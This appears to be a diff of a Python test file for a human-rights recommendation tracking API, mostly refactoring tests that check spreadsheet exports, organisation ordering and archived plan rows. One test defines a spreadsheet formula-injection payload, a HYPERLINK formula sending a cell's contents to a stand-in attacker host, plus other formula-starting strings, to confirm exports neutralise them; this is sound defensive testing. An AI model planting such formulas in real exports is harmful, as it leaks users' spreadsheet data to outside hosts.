@@ -16,13 +16,15 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&D5,"source")'
 
 async def test_exported_cells_never_become_formulas(client, tracking_world, session, settings):
     w = tracking_world
-    create_indicator(session, OWN_STATE, recommendation=w.cycle["recommendations"][OWN_STATE], name=FORMULA)
-    w.cycle["recommendations"][OWN_STATE].text = "=1+2 and +SUM(A1) -cmd @x"
-    w.cycle["recommendations"][OWN_STATE].paragraph = None  # the matrix cell then starts with the text
+    create_indicator(session, OWN_STATE, recommendation=w.cycle.recommendations[OWN_STATE], name=FORMULA)
+    w.cycle.recommendations[OWN_STATE].text = "=1+2 and +SUM(A1) -cmd @x"
+    w.cycle.recommendations[OWN_STATE].paragraph = None  # the matrix cell then starts with the text
     session.flush()
     headers = w.headers("nhri", settings)
-    for path, params in (("/tracking/matrix", {"state": OWN_STATE, "cycle": 3}),
-                         ("/recommendations", {"state_under_review": OWN_STATE})):
+    for path, params in (
+        ("/tracking/matrix", {"state": OWN_STATE, "cycle": 3}),
+        ("/recommendations", {"state_under_review": OWN_STATE}),
+    ):
         response = await client.get(path, params=params, headers={**headers, "Accept": XLSX_TYPE})
         sheet = load_workbook(io.BytesIO(response.content)).active
         cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
@@ -36,7 +38,7 @@ async def test_exported_cells_never_become_formulas(client, tracking_world, sess
 
 async def test_organisations_are_ordered_by_kind_and_id_never_by_a_hidden_name(client, tracking_world, session):
     w = tracking_world
-    recommendation = w.cycle["recommendations"][OWN_STATE]
+    recommendation = w.cycle.recommendations[OWN_STATE]
     masked = create_organisation(session, OrganisationKind.cso, OWN_STATE, name="AAA real name", public_name="ZZZ")
     plain = create_organisation(session, OrganisationKind.cso, OWN_STATE, name="MMM")
     for org in (masked, plain):
@@ -57,21 +59,26 @@ async def test_a_nul_in_a_search_is_a_422_on_every_database(client, tracking_wor
 async def test_an_archived_plan_row_is_gone_for_posts_and_overviews_too(client, tracking_world, settings, session):
     """Deleting an action someone posted about archives it (same 204 as a real delete): nothing may
     tell it apart from a deleted one afterwards, or the archive would betray the hidden post."""
-    from api.tracking.plans.rules import not_archived  # noqa: F401  (the rule the overview applies)
+    from api.tracking.plans.policy import not_archived  # noqa: F401  (the rule the overview applies)
 
     w = tracking_world
-    action, milestone = w.tracking["actions"][OWN_STATE], w.tracking["milestones"][OWN_STATE]
+    action, milestone = w.tracking.actions[OWN_STATE], w.tracking.milestones[OWN_STATE]
     government = w.headers("government", settings)
     assert (await client.delete(f"/tracking/actions/{action.id}", headers=government)).status_code == 204
     session.refresh(action)
     assert action.archived_at is not None  # posts refer to it: archived, not deleted
     cso = w.headers("cso", settings)
     for ref in (action.id, 999_999):
-        response = await client.post("/tracking/progress-updates", headers=cso, json={
-            "action_id": ref, "text": "x", "reported_on": "2021-05-01", "visibility": "public"})
+        response = await client.post(
+            "/tracking/progress-updates",
+            headers=cso,
+            json={"action_id": ref, "text": "x", "reported_on": "2021-05-01", "visibility": "public"},
+        )
         assert (response.status_code, response.json()["field"]) == (422, "action_id")
-    gone = [await client.post("/tracking/evidence", headers=cso, data={"milestone_id": str(ref), "url": "https://a.org"})
-            for ref in (milestone.id, 999_999)]
+    gone = [
+        await client.post("/tracking/evidence", headers=cso, data={"milestone_id": str(ref), "url": "https://a.org"})
+        for ref in (milestone.id, 999_999)
+    ]
     assert [g.status_code for g in gone] == [404, 404]
     matrix = (await client.get("/tracking/matrix", params={"state": OWN_STATE, "cycle": 3})).json()
     assert all(row["actions"] == [] and row["indicators"] == [] for row in matrix["items"])
